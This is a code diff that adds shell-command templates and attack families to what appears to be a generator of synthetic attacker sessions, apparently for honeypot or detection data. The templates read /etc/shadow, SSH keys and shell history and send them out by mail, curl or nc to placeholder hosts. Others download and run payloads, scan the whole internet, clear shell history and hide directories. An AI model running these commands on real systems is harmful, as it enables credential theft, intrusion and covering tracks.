+    "echo '‹SSH¦Telnet¦RDP› {plain} by {plain2}'; ‹sleep 2¦clear›",
+    './‹masscan¦zmap¦zgrab› -p ‹22,2222¦23¦3306› -o {name} ‹0.0.0.0/0 --exclude 255.255.255.255¦$1.0.0.0/8› ‹--rate {port}¦›',
+]
+
+INVENTORY = [
+    'echo "[+] ‹IP¦ifconfig¦net› [+]" >> {name}; /sbin/ifconfig ‹-a ¦›| grep ‹inet¦"inet addr"› >> {name}',
+    'echo "[+] ‹uptime¦up› [+]" >> {name}; uptime >> {name}; ‹uname -a¦hostname -f¦id› >> {name}',
+    "cat /proc/cpuinfo ‹| grep 'model name' ¦›>> {name}; ‹free -m¦cat /proc/meminfo¦df -h› >> {name}",
+    'cat /etc/‹issue¦passwd¦hosts¦shadow¦*release› >> {name}; ‹w¦last -20¦who› >> {name}',
+    'ls ‹-la ¦›‹/home¦/var/www¦/root/.ssh› >> {name}; cat ‹/root¦/home/*›/.‹bash_history¦ssh/known_hosts¦my.cnf› >> {name}',
+    "cat {name} | mail -s '‹info {ip}¦`hostname -i`¦new root›' {plain}@{domain}; rm -‹rf¦f› {name}",
+    "curl -s ‹ifconfig.me¦http://ipinfo.io/ip¦icanhazip.com› >> {name}; ‹curl -F 'f=@{name}' {url}¦nc {host} {port} < {name}›",
+    'netstat -‹an¦tulpn› | grep ‹LISTEN¦:22› >> {name}; ps ‹aux¦x› >> {name}',
+]
+
+SESSION = [
+    'w',
+    'ls ‹-la¦-a¦›',
+    'uname -a',
+    'id',
+    'cat /proc/cpuinfo',
+    'cd ‹/tmp¦/var/tmp¦/dev/shm›',
+    'ps x',
+    'passwd',
+    'uptime',
+    'wget ‹{url}¦{domain}/{name}.tgz¦http://{ip}/{name}.tar.gz¦{domain}/{plain}.jpg›',
+    'tar ‹xvf¦zxvf¦xzf› {name}.‹tgz¦tar.gz›',
+    'rm -rf {name}.‹tgz¦tar.gz›',
+    'cd {name}',
+    'chmod +x ‹*¦{plain}¦{name}›',
+    './{‹plain¦name›}‹ $1¦ {ip}¦ &¦›',
+    'perl {name}.‹pl¦txt›',
+    'cat /etc/passwd',
+    'history -c',
+    'exit',
+    'unset HISTFILE',
+    'kill -9 {n}',
+    'mkdir ‹.{plain}¦" "¦...›',
+    'cd ‹.{plain}¦" "¦...›',
+    './‹autorun¦start¦run¦inst¦go› ‹{ip}¦{n}¦›',
+    'nano {name}',
+    'curl -O {url}',
+    'crontab -l',
+    'ftp {host}',
+    '/sbin/ifconfig | grep inet',
+    'cat /etc/*release',
+    'nproc',
+    'last',
+    'PATH=$PATH:.',
+    'export PATH=.:$PATH',
+    'PATH="."; {name}',
+    'python {name}.py',
+    'sh {name}.sh',
+    'screen -dmS {plain} ./{name}',
+    'nohup ./{name} >> /dev/null &',
 ]
 
 RECON = [
@@ -335,4 +498,7 @@ FAMILIES = {
     "ransom": [(EVADE, 0, 1), (DESTROY, 1, 3)],
     "worm": [(DOWNLOAD, 0, 1), (WORM, 1, 2), (PERSIST, 0, 1)],
     "exfil": [(RECON, 0, 2), (EXFIL, 1, 2)],
+    "brute_force": [(BRUTE, 3, 8), (EVADE, 0, 1)],
+    "inventory": [(INVENTORY, 3, 7), (EVADE, 0, 1)],
+    "session": [(SESSION, 3, 9), (DOWNLOAD, 1, 1), (SESSION, 1, 6), (EVADE, 0, 1)],
 }
